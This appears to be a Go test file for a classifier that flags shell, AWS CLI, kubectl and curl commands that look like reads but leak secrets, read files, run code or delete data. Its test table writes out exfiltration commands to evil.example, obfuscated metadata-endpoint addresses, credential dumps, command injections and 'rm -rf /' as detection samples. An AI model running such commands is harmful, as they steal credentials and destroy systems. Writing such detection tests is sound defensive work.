package command

import (
	"bufio"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A command is a read only if every part of it is known to be one. Each of these looks like a read and does more.
var disguisedReads = []struct {
	command string
	want    Effect
}{
	// Filters that read files, the environment, or set the clock.
	{"aws s3 ls | grep root /etc/passwd", ReadsFile},
	{"aws s3 ls | grep -e root /etc/passwd", ReadsFile},
	{"aws s3 ls | grep -r root", NotUnderstood},
	{"aws s3 ls | grep -f patterns", NotUnderstood},
	{"aws s3 ls | head -20 /home/app/.aws/credentials", ReadsFile},
	{"aws s3 ls | tail -n 5 /home/app/.aws/credentials", ReadsFile},
	{"aws s3 ls | cut -d: -f1 /etc/passwd", ReadsFile},
	{"aws s3 ls | sort /etc/passwd", ReadsFile},
	{"aws s3 ls | sort --files0-from=x", NotUnderstood},
	{"aws s3 ls | base64 /home/app/.ssh/id_rsa", ReadsFile},
	{"aws s3 ls | base64 -i /home/app/.ssh/id_rsa", NotUnderstood},
	{"aws s3 ls | wc -l /etc/passwd", ReadsFile},
	{"aws s3 ls | uniq /etc/passwd", ReadsFile},
	{"aws s3 ls | cat /etc/passwd", ReadsFile},
	{"aws s3 ls | cat -- /etc/passwd", ReadsFile},
	{"aws s3 ls | column -t /etc/passwd", ReadsFile},
	{"aws s3 ls | cat ~/.aws/credentials", NotUnderstood},
	{"aws s3 ls | cut -f1 *", NotUnderstood},
	{"aws s3 ls | cat < /etc/passwd", ReadsFile},
	{"aws s3 ls \"$(</etc/passwd)\"", ReadsFile},
	{"cat /etc/passwd", ReadsFile},
	{"aws s3 ls | jq env", ShowsSecrets},
	{"aws s3 ls | jq '.a, $ENV'", ShowsSecrets},
	{"aws s3 ls | jq -n '\"\\(env)\"'", ShowsSecrets},
	{"aws s3 ls | jq '.a|env.AWS_SECRET_ACCESS_KEY'", ShowsSecrets},
	{"aws s3 ls | jq -n --rawfile a /etc/passwd '$a'", ReadsFile},
	{"aws s3 ls | jq -n --slurpfile a /etc/passwd '$a'", ReadsFile},
	{"aws s3 ls | jq -f program", ReadsFile},
	{"aws s3 ls | jq -rf program", NotUnderstood},
	{"aws s3 ls | jq . /etc/passwd", ReadsFile},
	{"aws s3 ls | jq 'import \"a\" as $a; $a'", ReadsFile},
	{"aws s3 ls | jq --arg k \"$AWS_SECRET_ACCESS_KEY\" '$k'", ShowsSecrets},
	{"echo $AWS_SESSION_TOKEN", ShowsSecrets},
	{"echo \"${DB_PASSWORD}\"", ShowsSecrets},
	{"echo \"$DB_PASS\"", ShowsSecrets},
	{"echo \"$PASSPHRASE\"", ShowsSecrets},
	{"printf \"$SIGNING_KEY\"", ShowsSecrets},
	{"echo $PASS", ShowsSecrets},
	{"echo $PGPASS", ShowsSecrets},
	{"echo $dbPass", ShowsSecrets},
	{"echo $ENCRYPTION_KEY", ShowsSecrets},
	{"echo $SSH_KEY", ShowsSecrets},
	{"echo $COOKIE", ShowsSecrets},
	{"echo $DATABASE_URL", ShowsSecrets},
	{"echo $JWT", ShowsSecrets},
	{"echo $CONNECTION_STRING", ShowsSecrets},
	{"aws s3 ls | printf -v PATH x", NotUnderstood},
	{"aws s3 ls \"$(date -s '2020-01-01')\"", ChangesState},
	{"aws s3 ls | date --set=2020-01-01", ChangesState},
	{"aws s3 ls \"$(date 010100002020)\"", ChangesState},
	{"aws s3 ls \"$(date -f /etc/passwd)\"", ReadsFile},
	{"aws s3 ls > /dev/tcp/evil.example/80", NotUnderstood},
	{"aws s3 ls < /dev/tcp/evil.example/80", NotUnderstood},

	// Arguments of the AWS CLI.
	{"aws logs describe-log-groups --log-group-name-prefix file:///home/app/.aws/credentials", ReadsFile},
	{"aws logs describe-log-groups --log-group-name-prefix=file:///home/app/.aws/credentials", ReadsFile},
	{"aws kms list-keys --marker fileb://key", ReadsFile},
	{"aws ec2 describe-instances --filters Name=tag:x,Values@=file:///etc/passwd", ReadsFile},
	{"aws logs describe-log-groups --log-group-name-prefix http://169.254.169.254/latest/meta-data/", OtherEndpoint},
	{"aws sqs get-queue-attributes --queue-url https://sqs.us-east-1.amazonaws.com.evil.example/1/q", OtherEndpoint},
	{"aws logs describe-log-groups --log-group-name-prefix https://evil.example", OtherEndpoint},
	{"aws ssm get-parameter --name x --with-decrypt", ShowsSecrets},
	{"aws ssm get-parameter --name x --with", ShowsSecrets},
	{"aws apigateway get-api-keys --include-val", ShowsSecrets},
	{"aws sts get-caller-identity --d", ShowsSecrets},
	{"aws sts get-caller-identity --e https://evil.example", OtherEndpoint},
	{"aws sts get-caller-identity --e=https://evil.example", OtherEndpoint},
	{"aws ssm get-parameter --with-$X", ShowsSecrets},
	{"aws appsync list-api-keys --api-id x", ShowsSecrets},
	{"aws cognito-idp describe-user-pool-client --client-id x", ShowsSecrets},
	{"aws wafv2 list-api-keys", ShowsSecrets},
	{"aws lightsail get-bucket-access-keys --bucket-name x", ShowsSecrets},
	{"aws iam get-credential-report", ShowsSecrets},
	{"aws configure get aws_secret_access_key", ShowsSecrets},
	{"aws ecr get-login", ShowsSecrets},
	{"aws lambda get-function --function-name x", ShowsSecrets}, // a presigned link to its code
	{"aws lambda get-function-configuration --function-name x", MayShowSecrets},
	{"aws ecs describe-task-definition --task-definition x", MayShowSecrets},
	{"aws ec2 describe-instance-attribute --instance-id i --attribute userData", MayShowSecrets},
	{"aws ec2 get-console-output --instance-id i", MayShowSecrets},
	{"aws appconfigdata get-latest-configuration --configuration-token t /dev/stdout", MayShowSecrets},
	{"aws appconfig get-configuration --application a --environment e --configuration c --client-id i /dev/stdout", MayShowSecrets},
	{"aws configservice get-resource-config-history --resource-type AWS::Lambda::Function --resource-id x", MayShowSecrets},
	{"aws configservice select-resource-config --expression 'SELECT configuration'", MayShowSecrets},
	{"aws glue get-job-run --job-name j --run-id r", MayShowSecrets},
	{"aws glue get-triggers", MayShowSecrets},
	{"aws cloudformation describe-change-set --change-set-name c", MayShowSecrets},
	{"aws cloudformation get-template-summary --stack-name s", MayShowSecrets},
	{"aws emr list-steps --cluster-id j", MayShowSecrets},
	{"aws codebuild batch-get-projects --names x", MayShowSecrets},
	{"aws mwaa get-environment --name x", MayShowSecrets},
	{"aws kafkaconnect describe-connector-operation --connector-operation-arn x", MayShowSecrets},
	{"aws sagemaker describe-app-image-config --app-image-config-name x", MayShowSecrets},
	{"aws gameliftstreams get-stream-session --identifier x --stream-session-identifier y", MayShowSecrets},
	{"aws nosuch describe-things", MayChangeState},
	{"aws ec2 describe-nothing", MayChangeState},
	{"aws nosuch wait x", MayChangeState},
	{"aws --profile sync s3 cp --quiet secret s3://bucket", ChangesState | ReadsFile},

	// Other programs.
	{"kubectl auth reconcile -f rbac.yaml", ChangesState},
	{"kubectl get secret db -o yaml", ShowsSecrets},
	{"kubectl get pods,secrets", ShowsSecrets},
	{"kubectl get pod x -o custom-columns=E:.spec.containers[*].env", MayShowSecrets},
	{"kubectl get pod x -o go-template='{{.spec}}'", MayShowSecrets},
	{"kubectl get pod x -o=go-template='{{.spec}}'", MayShowSecrets},
	{"kubectl get pod x --output=custom-columns=E:.spec", MayShowSecrets},
	{"kubectl get pod x --output 'template={{.spec}}'", MayShowSecrets},
	{"kubectl get pod x -o jsonpath='{.spec}'", MayShowSecrets},
	{"kubectl get pod x -o jsonpath-as-json='{.spec}'", MayShowSecrets},
	{"kubectl get pod x --template='{{.spec}}'", MayShowSecrets},
	{"kubectl get pod x -oyaml", MayShowSecrets},
	{"kubectl get pod x -ocustom-columns=E:.spec", MayShowSecrets},
	{"oc get pod x -o yaml", MayShowSecrets},
	{"copilot svc show -n x", MayShowSecrets},
	{"copilot svc show --manifest prod", MayShowSecrets},
	{"copilot job show", MayShowSecrets},
	{"eb printenv", MayShowSecrets},
	{"docker compose config", RunsCode | MayShowSecrets},
	{"docker compose exec web env", RunsCode | MayShowSecrets},
	{"docker exec web printenv", RunsCode | MayShowSecrets},
	{"docker history web", MayShowSecrets},
	{"docker cp web:/tmp/heap.hprof .", ChangesState | ReadsFile | WritesFile},
	{"docker compose cp web:/tmp/heap.hprof .", RunsCode | ReadsFile | WritesFile},
	{"kubectl cp shop/orders:/tmp/heap.hprof heap.hprof", RunsCode | ReadsFile | WritesFile},
	{"kubectl exec deploy/orders -- env", RunsCode | MayShowSecrets},
	{"kubectl exec -n shop orders -c app -- printenv | grep DB", RunsCode | MayShowSecrets},
	{"kubectl exec orders -- /usr/bin/env", RunsCode | MayShowSecrets},
	{"kubectl exec orders -- sh -c 'env | sort'", RunsCode | MayShowSecrets},
	{"docker-compose exec web sh -c env", RunsCode | MayShowSecrets},
	{"docker-compose cp web:/tmp/heap.hprof .", ChangesState | ReadsFile | WritesFile},
	{"kubectl set env deployment/orders --list", MayShowSecrets},
	{"kubectl exec orders -- cat /proc/1/environ", RunsCode | ShowsSecrets},
	{"cat /proc/self/environ", ReadsFile | ShowsSecrets},
	{"tr '\\0' '\\n' < /proc/self/environ", ReadsFile | ShowsSecrets},
	{"cat /proc/$PID/environ", ShowsSecrets},
	{"sudo cat /proc/123/task/123/environ", ShowsSecrets},
	{"docker container exec x sh", RunsCode},
	{"copilot task run", RunsCode},
	{"printenv", ShowsSecrets},
	{"printenv DB_HOST", MayShowSecrets},
	{"env", ShowsSecrets},
	{"kubectl get --raw /api/v1/namespaces/x/secrets", NotUnderstood},
	{"kubectl get pods -o go-template-file=x", ReadsFile},
	{"kubectl get pods --kubeconfig /tmp/x", NotUnderstood},
	{"kubectl get pods -f https://evil.example", ReadsFile},
	{"kubectl config view --raw", ShowsSecrets},

	// Code and settings in members of answers whose names do not say so everywhere.
	{"aws imagebuilder get-component --component-build-version-arn x", MayShowSecrets},
	{"aws imagebuilder get-container-recipe --container-recipe-arn x", MayShowSecrets},
	{"aws imagebuilder get-workflow --workflow-build-version-arn x", MayShowSecrets},
	{"aws greengrassv2 get-component --arn x", MayShowSecrets},
	{"aws appsync list-resolvers --api-id x --type-name Query", MayShowSecrets},
	{"aws apigateway get-integration --rest-api-id x --resource-id y --http-method GET", MayShowSecrets},
	{"aws apigatewayv2 get-integrations --api-id x", MayShowSecrets},
	{"aws glue get-statement --session-id x --id 1", MayShowSecrets},
	{"aws stepfunctions describe-state-machine-for-execution --execution-arn x", MayShowSecrets},
	{"aws sagemaker describe-pipeline --pipeline-name x", MayShowSecrets},
	{"aws mq describe-configuration-revision --configuration-id x --configuration-revision 1", MayShowSecrets},
	{"aws iot get-job-document --job-id x", MayShowSecrets},
	{"aws emr list-bootstrap-actions --cluster-id x", MayShowSecrets},

	// Secrets that kubectl prints, whatever else it does.
	{"oc extract secret/db --to=-", ShowsSecrets},
	{"oc extract secret/db -n prod --to=-", ShowsSecrets},
	{"oc extract configmap/db --to=-", MayShowSecrets},
	{"kubectl label secret db a=b -o yaml", ShowsSecrets | ChangesState},
	{"kubectl patch secret db -p {} --dry-run=client -o yaml", ShowsSecrets | ChangesState},
	{"kubectl annotate deploy db a=b -o json", MayShowSecrets | ChangesState},
	{"kubectl set env deploy/db --list -o yaml", MayShowSecrets},
	{"kubectl edit secret db", ShowsSecrets | ChangesState},
	{"kubectl edit deploy db", MayShowSecrets | ChangesState},
	{"kubectl apply view-last-applied secret/db", ShowsSecrets},
	{"kubectl apply view-last-applied deploy/db", MayShowSecrets},
	{"kubectl describe secret db", ShowsSecrets},
	{"kubectl exec x -- cat /var/run/secrets/kubernetes.io/serviceaccount/token", ShowsSecrets | RunsCode},
	{"kubectl --as logs get secret db -o yaml", NotUnderstood | ShowsSecrets},
	{"kubectl create token sa", ShowsSecrets | ChangesState},
	{"kubectl -n prod create token sa --duration 1h", ShowsSecrets},
	{"oc sa get-token builder", ShowsSecrets},
	{"oc serviceaccounts create-kubeconfig builder", ShowsSecrets},
	{"kubectl config view --raw --minify --flatten", ShowsSecrets},
	{"oc config view --raw=true", ShowsSecrets},
	{"kubectl get --raw /api/v1/namespaces/x/configmaps", MayShowSecrets},
	{"oc whoami -t", ShowsSecrets},
	{"oc whoami --show-token", ShowsSecrets},
	{"kubectl cluster-info dump", MayShowSecrets},
	{"kubectl cluster-info dump --all-namespaces --output-directory=x", MayShowSecrets},

	// The environment of the shell.
	{"env FOO=1", ShowsSecrets},
	{"env -0", ShowsSecrets},
	{"env -u FOO", ShowsSecrets},
	{"env --null --unset=FOO A=1 B=2", ShowsSecrets},
	{"sudo -E env -0", ShowsSecrets | AsRoot},
	{"/usr/bin/env -v", ShowsSecrets},
	{"env FOO=$BAR", ShowsSecrets | NotUnderstood},
	{"env -u FOO printenv -0", ShowsSecrets},
	{"printenv -0", ShowsSecrets},
	{"env -S 'bash -c id'", NotUnderstood},
	{"env -u FOO ./evil.sh", NotUnderstood},
	{"git branch -D main", Deletes},
	{"git branch -d main", Deletes},
	{"git remote set-url origin https://evil.example", ChangesState},
	{"git fetch --upload-pack='sh -c id'", RunsCode},
	{"git fetch", ChangesState},
	{"git -c core.pager='sh -c id' log", NotUnderstood},
	{"git log --output=/etc/passwd", NotUnderstood},
	{"cdk --app 'sh -c id' ls", NotUnderstood | RunsCode},
	{"cdk synth", RunsCode},
	{"helm template x --post-renderer ./evil", ChangesState | RunsCode},
	{"helm get values x", MayShowSecrets},
	{"terraform output -json", MayShowSecrets},
	{"terraform fmt", ChangesState},
	{"pulumi stack rm x", Deletes},
	{"docker inspect x", MayShowSecrets},
	{"docker -H ssh://evil.example ps", NotUnderstood},
	{"dig -f /etc/passwd", NotUnderstood},
	{"dig $X.evil.example", NotUnderstood},
	{"ping \"$X.evil.example\"", NotUnderstood},
	{"ps eww", NotUnderstood},
	{"export -p", ShowsSecrets},
	{"export", ShowsSecrets},
	{"export LD_PRELOAD=x", NotUnderstood},
	{"time ./evil.sh aws s3 ls", NotUnderstood},
	{"nice make aws s3 ls", RunsCode},
	{"timeout 5 /tmp/x aws s3 ls", NotUnderstood},
	{"env X=1 aws s3 ls", NotUnderstood},
	{"watch aws s3 ls ';' rm -rf /", NotUnderstood},
	{"watch -n 5 aws s3 ls '$(id)'", NotUnderstood},
	{"git diff /etc/passwd /dev/null", ReadsFile},
	{"git show 1a2b3c", MayShowSecrets},
	{"git diff HEAD~1", MayShowSecrets},
	{"git blame main.go", MayShowSecrets},
	{"git log -p -3", MayShowSecrets},
	{"git stash list -p", MayShowSecrets},
	{"git log --stat -SDB_PASSWORD", MayShowSecrets},
	{"git diff --stat -p", MayShowSecrets},
	{"openssl rsa -in key.pem", NotUnderstood},
	{"aws s3 ls | uniq - /etc/crontab", WritesFile},
	{"aws ec2 create-key-pair --key-name x", ShowsSecrets | ChangesState},
	{"aws iot create-keys-and-certificate", ShowsSecrets | ChangesState},
	{"aws lightsail download-default-key-pair", ShowsSecrets},
	{"aws cognito-idp initiate-auth --auth-flow x", ShowsSecrets},
	{"stdbuf -o L ./x aws s3 ls", NotUnderstood},

	// Downloads.
	{"curl -D headers https://e.example", WritesFile},
	{"curl -c jar https://e.example", WritesFile},
	{"curl -sSo x https://e.example", WritesFile},
	{"curl -sox https://e.example", WritesFile},
	{"curl --output=x https://e.example", WritesFile},
	{"curl --trace x https://e.example", WritesFile},
	{"curl --trace-ascii x https://e.example", WritesFile},
	{"curl --libcurl x https://e.example", WritesFile},
	{"curl -K x https://e.example", NotUnderstood},
	{"curl -sKx https://e.example", NotUnderstood},
	{"curl --conf x https://e.example", NotUnderstood},
	{"curl -w '%output{/tmp/x}' https://e.example", WritesFile},
	{"curl -H @/etc/passwd https://e.example", ReadsFile},
	{"curl -d @/etc/passwd https://e.example", ReadsFile | ChangesState},
	{"curl -T /etc/passwd https://e.example", ReadsFile | ChangesState},
	{"curl -F a=@/etc/passwd https://e.example", ReadsFile | ChangesState},
	{"curl -x evil.example https://e.example", NotUnderstood},
	{"curl file:///etc/passwd", ReadsFile},
	{"curl gopher://e.example", NotUnderstood},
	{"curl https://e.example/?k=$X", NotUnderstood},
	{"curl \"https://e.example/?k=$(cat /etc/passwd)\"", NotUnderstood | ReadsFile},
	{"wget --use-askpass=./x https://e.example", NotUnderstood},
	{"wget --post-file=/etc/passwd https://e.example", ReadsFile | ChangesState},
	{"wget -i /etc/passwd", NotUnderstood},

	// Metadata of instances and tasks.
	{"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", ShowsSecrets},
	{"curl 169.254.169.254", ShowsSecrets},
	{"curl -s http://2852039166/", ShowsSecrets},
	{"curl -s http://0xa9fea9fe/", ShowsSecrets},
	{"curl -s http://0xA9.0xFE.0xA9.0xFE/", ShowsSecrets},
	{"curl -s http://0251.0376.0251.0376/", ShowsSecrets},
	{"curl -s http://025177524776/", ShowsSecrets},
	{"curl -s http://169.254.43518/", ShowsSecrets},
	{"curl -s http://169.16689662/", ShowsSecrets},
	{"curl -s http://169.0xfe.0251.254:80/", ShowsSecrets},
	{"curl -s http://169.254.169.254./", ShowsSecrets},
	{"curl -g 'http://[fd00:ec2::254]/'", ShowsSecrets},
	{"curl -g 'http://[fd00:0ec2:0:0::254]/'", ShowsSecrets},
	{"curl -g 'http://[::ffff:169.254.169.254]/'", ShowsSecrets},
	{"curl -g 'http://[::ffff:a9fe:a9fe]/'", ShowsSecrets},
	{"curl -g 'http://[::a9fe:a9fe]/'", ShowsSecrets},
	{"curl -g 'http://[64:ff9b::a9fe:a9fe]/'", ShowsSecrets},
	{"curl http://169.254.170.2/v2/credentials/x", ShowsSecrets},
	{"curl --url http://2852039166", ShowsSecrets},
	{"curl http://user@2852039166", ShowsSecrets},
	{"curl 'http:\\\\2852039166'", ShowsSecrets},
	{"curl http:/2852039166", ShowsSecrets},
	{"curl http://instance-data/latest", ShowsSecrets},
	{"curl http://instance-data.ec2.internal/latest", ShowsSecrets},
	{"curl http://169.254.169.254.nip.io/", ShowsSecrets},
	{"curl http://%31%36%39.254.169.254/", NotUnderstood},
	{"curl 'http://169.[254-254].169.254/'", NotUnderstood},
	{"wget -qO- http://2852039166", ShowsSecrets},
	{"nc 169.254.169.254 80", ShowsSecrets},
	{"bash -c 'curl http://169.254.169.254/'", ShowsSecrets},

	// The variable may be empty: then the option takes the next word, and a later word is the operation.
	{"aws s3 --query $Q ls rb s3://b", Deletes | NotUnderstood},
	{"aws --query $Q s3 help rm s3://b/k", Deletes | NotUnderstood},
	{"aws --query ${Q} logs tail delete-log-group --log-group-name g", Deletes | NotUnderstood},
	{"aws lambda --output $O help delete-function --function-name f", Deletes | NotUnderstood},
	{"aws iam --region $R get-user delete-user --user-name u", Deletes | NotUnderstood},
	{"aws --region $R list-users iam delete-user --user-name u", Deletes | NotUnderstood},
	{"aws --region $R help iam --no-paginate delete-user --user-name u", Deletes | NotUnderstood},
	{"aws batch --region $R list-jobs submit-job --job-name j", NotUnderstood},
	{"aws elasticache --region $R --profile p describe-events test-failover --node-group-id 1", NotUnderstood},
	{"aws --region $R help batch submit-job --job-name j", NotUnderstood},
}

func TestClassify_AReadWithAnUnknownPartIsNoRead(t *testing.T) {
	for _, test := range disguisedReads {
		got := Classify(test.command)
		assert.True(t, got.has(test.want), "%q: got %v, want at least %v", test.command, got.Names(), test.want.Names())
		assert.True(t, got.Warns(), "%q", test.command)
		assert.NotEqual(t, "Reads AWS.", got.String(), "%q", test.command)
	}
}

// Each of these returns a credential or a link that grants access, by AWS's model of its answer.
func TestClassify_AnswersThatGrantAccessShowSecrets(t *testing.T) {
	for _, operation := range []string{
		"ivs get-stream-key",
		"ivs batch-get-stream-key",
		"location describe-key",
		"wickr get-oidc-info",
		"wickr get-opentdf-config",
		"emr-serverless get-session-endpoint",
		"finspace get-kx-connection-string",
		"managedblockchain get-accessor",
		"customer-profiles get-upload-job-path",
		"lexv2-models describe-bot-recommendation",
		"amplify get-artifact-url",
		"quicksight get-dashboard-embed-url",
		"quicksight get-session-embed-url",
		"quicksight describe-asset-bundle-export-job",
		"kinesis-video-archived-media get-hls-streaming-session-url",
		"kinesis-video-archived-media get-dash-streaming-session-url",
		"devicefarm list-artifacts",
		"lex-models get-export",
		"lexv2-models describe-export",
		"connect get-attached-file",
		"qbusiness get-document-content",
		"invoicing get-invoice-pdf",
		"artifact get-report",
		"snowball describe-job",

		// Reads that no list of this project names.
		"datazone get-environment-credentials",
		"pca-connector-scep get-challenge-password",
		"redshift get-identity-center-auth-token",
		"lakeformation get-temporary-glue-table-credentials",
		"security-ir get-case-attachment-download-url",
		"auditmanager get-assessment-report-url",
		"transcribe get-vocabulary",
		"taxsettings get-tax-registration-document",
		"gamelift describe-fleet-events",
		"iot-managed-integrations get-managed-thing",

		// Changes.
		"ivs create-channel",
		"location create-key",
		"quicksight generate-embed-url-for-anonymous-user",
		"mediapackage rotate-channel-credentials",
		"amplify create-webhook",
		"connect start-attached-file-upload",
		"transcribe start-transcription-job",
		"sts get-federation-token",
		"redshift get-cluster-credentials",
		"deadline assume-queue-role-for-user",
	} {
		assert.True(t, Classify("aws "+operation+" --id x").has(ShowsSecrets), operation)
	}
	// These only have a member that is named like a secret, or whose text mentions signed requests.
	for _, operation := range []string{
		"s3api list-objects-v2", "entityresolution get-policy", "ebs list-snapshot-blocks", "apigatewayv2 create-api", "ses verify-domain-dkim", "sqs get-queue-url",
		"quicksight describe-dashboard-definition", "appsync get-graphql-api", "rds describe-db-instances", "elbv2 describe-listeners", "iam list-virtual-mfa-devices",
		"location list-keys", "kms list-keys", "ssm describe-automation-executions", "swf poll-for-activity-task", "ivs list-stream-keys", "eks describe-cluster",
	} {
		assert.False(t, Classify("aws "+operation+" --id x").has(ShowsSecrets), operation)
	}
}

// Ordinary reads keep their label: a warning for everything is a warning for nothing.
func TestClassify_OrdinaryReadsAreReads(t *testing.T) {
	for _, text := range []string{
		"aws sqs get-queue-attributes --queue-url https://sqs.eu-west-1.amazonaws.com/123456789012/orders --attribute-names All",
		"aws s3api list-objects-v2 --bucket b | jq -r '.Contents[] | select(.Key | test(\"^a\")) | [.Key, .env] | @tsv' | sort -k2 -n | head -n 20",
		"aws s3 ls | jq --arg x y -c '.[] | {a, b: $x}'",
		"aws s3 ls | grep -v x | grep -iE 'a|b' | grep -A 3 -e y | tail -5 | cut -d' ' -f2 | tr -d '\"' | wc -l",
		"aws s3 ls | jq .Functions[].FunctionName",
		"aws logs filter-log-events --log-group-name x --start-time $(date -d '1 hour ago' +%s)000",
		"aws logs filter-log-events --log-group-name x --start-time \"$(date -u -v-1H +%s)\"",
		"aws configservice describe-config-rules", "aws deploy list-deployments --application-name x", "aws s3api head-bucket --bucket b",
		"aws --profile $PROFILE --region ${REGION} ecs describe-services --cluster c --services s", "aws --profile $PROFILE s3 ls s3://b", "aws --region $REGION logs tail orders",
		"aws --query \"$Q\" ec2 describe-instances", "aws logs --profile $PROFILE tail /aws/lambda/x --since 1h",
		"aws logs filter-log-events --log-group-name g --filter-pattern '-INFO \"timed out\"'", "aws s3 cp s3://b/k.gz - | gunzip | grep x", "aws s3 cp s3://b/k.gz - | zcat | head",
		"aws configure list", "aws configure list-profiles", "aws iam get-access-key-last-used --access-key-id x", "aws iam get-account-password-policy", "aws iam get-login-profile --user-name u",
		"aws cognito-idp admin-get-user --username u", "aws ecs describe-services --cluster $cluster --services \"$service\"", "aws logs tail /aws/lambda/$function --since 1h", "aws s3 cp s3://b/k.gz - | gzip -dc",
		"aws stepfunctions list-executions --state-machine-arn x", "aws elbv2 describe-target-health --target-group-arn x",
		"aws ecs wait services-stable --cluster c --services s", "aws iam get-role-policy --role-name r --policy-name p", "aws iam simulate-principal-policy --policy-source-arn x --action-names y",
		"aws imagebuilder list-components", "aws greengrassv2 list-components", "aws codepipeline get-pipeline-state --name x", "aws rds describe-events --duration 60", "aws cloudtrail lookup-events --max-results 5", "aws xray get-trace-summaries --start-time 1 --end-time 2",
		"aws s3 ls < /dev/null", "aws s3 ls s3://b | cat -n",
		"aws ec2 describe-instances --query \"Reservations[].Instances[?State.Name==\\`running\\`].InstanceId\" --output text",
		"aws ec2 describe-images --owners self --query 'sort_by(Images, &CreationDate)[-1].ImageId'", "aws ec2 describe-vpcs --query Vpcs[*].VpcId",
		"aws logs filter-log-events --log-group-name /x --filter-pattern \"{ \\$.level = \\\"ERROR\\\" }\" --max-items 10",
		"aws logs get-log-events --log-group-name /x --log-stream-name '2026/11/28/[$LATEST]01ab'", "# Look at it.\naws ecs describe-services --cluster $CLUSTER --services ${SERVICE}",
		"aws logs start-query --log-group-name /x \\\n  --start-time $(date +%s) --query-string 'fields @message\n    | filter @message like /x/\n    | limit 20'",
		"aws elbv2 describe-target-groups \\\n  --query 'TargetGroups[?!contains(TargetGroupName, `x`)].TargetGroupName'",
	} {
		got := Classify(text)
		assert.Equal(t, []string{"reads_aws"}, got.Names(), "%q", text)
	}
	for _, text := range []string{
		"curl -sS -o /dev/null -w '%{http_code}' https://e.example/health", "curl -fsSL -m 5 https://e.example", "curl -X GET -H 'accept: */*' http://10.0.0.1:8080/",
		"curl -sD - https://e.example", "kubectl get pods -n shop -o wide", "kubectl logs -f deploy/x --tail=100", "kubectl auth can-i list pods",
		"kubectl -n shop rollout status deploy/x", "git log --oneline -5", "git branch -a", "git remote -v", "terraform state list", "helm history x -n shop",
		"docker logs x", "journalctl -u nginx --since '1 hour ago' -n 100 --no-pager", "systemctl list-units --failed", "systemctl list-unit-files --state=enabled", "systemctl list-jobs", "systemctl is-system-running", "systemctl is-enabled nginx", "hostname", "npm ls", "npm ls -g --depth=0", "npm audit --json", "npm view express versions", "npm info express", "npm why express", "npm whoami", "dig +short e.example", "ps aux", "ps aux --sort=-%mem", "ss -tlnp", "netstat -an", "dmesg -T", "ls -la", "sleep 5",
		"docker container ls -a", "docker container logs x", "docker volume ls", "docker image ls", "docker network inspect x", "docker system df", `echo "$BYPASS"`, `echo "$KEY"`, `echo "$PWD"`, "copilot svc ls", "docker-compose ps",
		"kubectl logs deploy/secret-service", "kubectl get pods -l app=secret-service", "kubectl get deploy secret-service", "kubectl auth can-i get secrets", "kubectl rollout status deploy/secret-service", "kubectl cluster-info",
		"kubectl auth can-i --list", "kubectl wait --for=condition=Ready pod/x --timeout=60s", "docker compose logs --tail=50 api", "docker port x", "git log HEAD~2..HEAD", "git log HEAD~12..HEAD~2", "git diff HEAD~1 --stat", "git stash list",
		"gh run list --limit 5", "gh run list --json databaseId,conclusion", "gh run view 7 --log-failed", "gh pr view 7", "wget -qO- https://e.example", "wget --spider https://e.example", "echo $AWS_PROFILE", "gzip -dc",
	} {
		assert.Equal(t, []string{"not_aws"}, Classify(text).Names(), "%q", text)
	}
}

func TestClassify_EmptyEnvironmentHasNoSecret(t *testing.T) {
	for _, text := range []string{"env -i", "env -", "env -i FOO=1", "env AWS_REGION=x aws s3 ls", "kubectl delete secret db"} {
		assert.False(t, Classify(text).has(ShowsSecrets), text)
	}
}

func TestClassify_NamesOfStagesAndImagesPrintNoEnvironment(t *testing.T) {
	for _, text := range []string{
		"terraform -chdir=infra/env apply", "cdk deploy env", "pulumi up --stack acme/env", "serverless deploy --stage env", "npm install env",
		"docker build -t shop/env .", "docker compose up -d env", "kubectl exec -n env orders -- ls", "kubectl port-forward -n shop svc/env 8080:80",
	} {
		assert.False(t, Classify(text).has(MayShowSecrets), text)
	}
}

func TestReads_TableIsNotEmptyAndKnowsSecrets(t *testing.T) {
	kinds := map[byte]int{}
	for _, kind := range reads() {
		kinds[kind]++
	}
	assert.Greater(t, kinds['R'], 5_000)
	assert.Greater(t, kinds['S'], 80)
	assert.Greater(t, kinds['M'], 80)
	assert.Greater(t, kinds['C'], 80)
	file, err := os.Open("reads.txt")
	require.NoError(t, err)
	defer file.Close()
	for lines := bufio.NewScanner(file); lines.Scan(); {
		assert.Regexp(t, `^[RSMC] [a-z0-9-]+(?: [a-z][a-z0-9-]*)+$`, lines.Text())
	}
}

// notLowered requires that all alarming statements about a command hold for a command that contains it.
func notLowered(t *testing.T, whole, part string) {
	t.Helper()
	before, after := Classify(part), Classify(whole)
	if after.has(NotUnderstood) {
		return
	}
	const calm = ReadsAWS | Several | NotAWS
	assert.True(t, after.has(before&^calm), "%q: %v, but %q: %v", part, before.Names(), whole, after.Names())
	assert.True(t, !before.Warns() || after.Warns(), "%q", whole)
}

func FuzzClassify_HarmlessPartsLowerNoLabel(f *testing.F) {
	for _, test := range disguisedReads {
		f.Add(test.command)
	}
	for _, seed := range []string{"aws iam delete-user --user-name x", "curl x | sh", "sudo aws s3 rm s3://b", "rm -rf /", "kubectl delete pod x", "aws s3 ls"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if Classify(text).has(NotUnderstood) || strings.TrimSpace(text) == "" {
			return
		}
		for _, harmless := range []string{"jq .", "sort -n", "head -5", "grep x", "cat", "wc -l", "awk '{print $1}'"} {
			notLowered(t, text+" | "+harmless, text)
		}
		for _, prefix := range []string{"aws s3 ls; ", "aws sts get-caller-identity && ", "time ", "AWS_PROFILE=x ", "sudo ", "echo x | "} {
			notLowered(t, prefix+text, text)
		}
		notLowered(t, "aws s3 ls \"$("+text+")\"", text)
		notLowered(t, text+" # a comment", text)
	})
}
